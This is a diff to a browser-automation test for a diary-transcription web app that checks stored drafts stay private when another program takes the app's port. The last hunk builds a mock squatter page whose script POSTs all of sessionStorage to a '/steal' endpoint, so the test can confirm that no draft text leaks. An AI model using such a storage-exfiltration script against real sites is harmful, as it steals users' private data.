@@ -139,6 +139,13 @@ async function main() {
     headless: true,
     args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"],
   });
+  // A page left with text typed since its last draft asks first (the browser's question on
+  // leaving): the transcriber here says leave. The questions are counted.
+  const leaving = [];
+  browser.on("targetcreated", async (target) => {
+    const p = await target.page();
+    if (p) p.on("dialog", (d) => { leaving.push(d.type()); d.accept(); });
+  });
   try {
     // Without the token: refused.
     let r = await fetch(base + "/");
@@ -402,7 +409,7 @@ async function main() {
     check("replacement form names whom it replaces",
       (await a.$eval("form.participant [name=replaces]", (e) => e.value)) === "T01");
     // Two tabs of one form (trial 42): the second saves an entry, which removes the draft the
-    // first kept; the first, closed after, sends it again, and the next form restores it.
+    // first kept; told so, the first keeps it again, and the next form restores it.
     const t1 = await browser.newPage(), t2 = await browser.newPage();
     await t1.bringToFront(); // a hidden tab's timers are slowed down
     await t1.goto(base + "/p/P01/new", { waitUntil: "load" });
@@ -423,8 +430,8 @@ async function main() {
     if (await t2.$("#warnings")) // a date after the diary period: saved on the second click
       await Promise.all([t2.waitForNavigation(), t2.click("#save")]);
     check("the second tab's entry is saved", /saved=\d+/.test(t2.url()), t2.url());
+    await new Promise((resolve) => setTimeout(resolve, 1000)); // its draft, kept again
     await t1.close();
-    await new Promise((resolve) => setTimeout(resolve, 500)); // the beacon, on its way
     await t2.goto(base + "/p/P01/new", { waitUntil: "load" });
     check("the first tab's draft outlives the second tab's save",
       (await t2.$eval("#text", (e) => e.value)) === "Brouillon du premier onglet.",
@@ -664,9 +671,12 @@ async function main() {
     const whileTyped = await drafts();
     await submitWithCtrlEnter(page);
     const onceSaved = await drafts();
-    check("a draft in sessionStorage, gone once its entry is saved",
-      whileTyped.some((v) => /sera gardée/.test(v)) &&
-      onceSaved.every((v) => !/sera gardée/.test(v)), { whileTyped, onceSaved });
+    // ... nor before: the tab keeps a fingerprint of the draft it sent, which a page of the
+    // same address (a program on a stopped desk's port, trial 54) could read, not its text
+    check("a draft's fingerprint in sessionStorage, never its text, forgotten once saved",
+      whileTyped.some((v) => /"fp":\d+/.test(v)) &&
+      whileTyped.concat(onceSaved).every((v) => !/sera gardée/.test(v)) &&
+      onceSaved.length === 0, { whileTyped, onceSaved });
     check("no script error", jsErrors.length === 0, jsErrors);
     // The desk stopped with a form open, and another program takes its port at once: the
     // page sends it no text and no cookie, as a draft or a save (a data-protection review
@@ -676,6 +686,8 @@ async function main() {
     await page.goto(base + "/p/T01/new", { waitUntil: "load" });
     await page.focus("#text");
     await page.keyboard.type("Texte tapé avant l'arrêt.");
+    await page.waitForFunction(() => /draft kept/.test(
+      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
     server.child.kill("SIGTERM");
     await new Promise((resolve) => server.child.once("exit", resolve));
     const squatted = [];
@@ -695,12 +707,32 @@ async function main() {
     await page.waitForSelector("#desk-gone", { timeout: 5000 }).catch(() => {});
     check("a save on a stopped desk is not sent, and said", /^Not sent: the desk is not answering/
       .test(await text(page, "#desk-gone").catch(() => "")), squatted);
+    const sentBefore = squatted.slice();
+    // Reloaded, the tab is that program's page, at the desk's address: what it can read of
+    // the tab's memory holds no text (trial 54: the drafts were there)
+    let stolen = null;
+    squatter.removeAllListeners("request");
+    squatter.on("request", (req, res) => {
+      if (req.method === "POST") {
+        let b = "";
+        req.on("data", (d) => { b += d; });
+        req.on("end", () => { stolen = b; res.end(); });
+        return;
+      }
+      res.setHeader("content-type", "text/html");
+      res.end("<script>fetch('/steal', {method: 'POST', body: " +
+        "JSON.stringify(Object.assign({}, sessionStorage))})</script>");
+    });
+    await page.reload({ waitUntil: "load" }).catch(() => {});
+    await new Promise((resolve) => setTimeout(resolve, 500));
     await page.close();
-    await new Promise((resolve) => setTimeout(resolve, 300)); // the beacon, had it been sent
+    await new Promise((resolve) => setTimeout(resolve, 300)); // a beacon, had one been sent
     squatter.close();
     check("the program on the stopped desk's port got no text and no cookie",
-      squatted.length > 0 && squatted.every((q) => /^GET \/d[0-9a-f]{32}\/alive$/.test(q.what) &&
-        !q.cookie), squatted);
+      sentBefore.length > 0 && sentBefore.every((q) =>
+        /^GET \/d[0-9a-f]{32}\/alive$/.test(q.what) && !q.cookie), sentBefore);
+    check("the tab's memory read by that program holds no text", stolen !== null &&
+      /carnet-draft/.test(stolen) && !/avant l|arrêt|Encore/.test(stolen), stolen);
   } finally {
     await browser.close();
     server.child.kill("SIGTERM");
